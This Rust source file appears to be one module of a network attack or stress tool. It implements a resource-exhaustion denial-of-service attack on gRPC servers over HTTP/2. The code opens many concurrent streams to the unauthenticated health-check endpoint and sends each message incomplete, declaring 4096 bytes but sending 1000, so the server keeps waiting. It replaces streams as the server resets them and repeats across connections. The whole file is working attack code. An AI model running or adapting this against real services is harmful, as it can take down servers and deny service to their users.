//! Unfinished messages: calls of gRPC health on as many streams as there may be, each with less of its
//! message than it says. They need no token, and whoever waits for the rest keeps what there is.

use std::io;
use std::time::Instant;

use serde_json::Value;
use tokio::io::BufReader;
use tokio::net::tcp::OwnedReadHalf;
use tokio::sync::Semaphore;

use super::frames::{self, DATA, END_HEADERS, HEADERS, RST_STREAM};
use super::{AttackArgs, Attacker, storm};
use crate::Outcome;

/// How many streams are under way on one connection: as many as servers commonly allow, and more are
/// refused.
const STREAMS: usize = 100;
/// How many go out in one write.
const BATCH: u32 = 10;
/// How many one connection can number.
const MOST_STREAMS: u32 = 1 << 30;
/// How long a message says that it is, in bytes.
const SAID: u32 = 4096;
/// How much of it there is: all streams' together is less than what a connection may send unread.
const SENT: usize = 1000;

pub(crate) async fn run(args: AttackArgs) -> Outcome<Value> {
    Ok(storm(&args, |attacker| async move {
        while attacker.goes_on() {
            let _ = begin(&attacker).await;
        }
    })
    .await)
}

/// Begins call after call on one connection, another for each that the server has ended.
async fn begin(attacker: &Attacker) -> io::Result<()> {
    let stream = attacker.connect().await?;
    let since = Instant::now();
    let (reading, mut writing) = stream.into_split();
    let free = Semaphore::new(STREAMS);
    let fields = [
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("grpc-timeout", "60S"),
    ];
    let block = frames::request("POST", "/grpc.health.v1.Health/Check", &fields);
    let mut message = vec![0];
    message.extend_from_slice(&SAID.to_be_bytes());
    message.resize(message.len() + SENT, b'a');
    let beginning = async {
        attacker.send(&mut writing, &frames::opening(&[])).await?;
        let mut number = 0;
        while attacker.goes_on() && number + BATCH < MOST_STREAMS {
            let permits = free.acquire_many(BATCH).await;
            permits.map_err(io::Error::other)?.forget();
            let mut out = Vec::new();
            for _ in 0..BATCH {
                let id = 2 * number + 1;
                frames::frame(&mut out, HEADERS, END_HEADERS, id, &block);
                frames::frame(&mut out, DATA, 0, id, &message);
                number += 1;
            }
            attacker.send(&mut writing, &out).await?;
            attacker.sent(u64::from(BATCH));
        }
        Ok(())
    };
    let ended = tokio::select! {
        ended = beginning => ended,
        ended = count_resets(attacker, BufReader::new(reading), &free) => ended,
    };
    attacker.ended(since, ended.is_err()).await;
    ended
}

/// Reads frames until the connection ends. A stream that its client does not end is over, for whatever
/// reason, when the server takes it back.
async fn count_resets(
    attacker: &Attacker,
    mut reading: BufReader<OwnedReadHalf>,
    free: &Semaphore,
) -> io::Result<()> {
    loop {
        let frame = frames::read(&mut reading).await?;
        if let Some(name) = frame.name() {
            attacker.tally.answered(&name);
        }
        if frame.kind == RST_STREAM {
            free.add_permits(1);
        }
    }
}
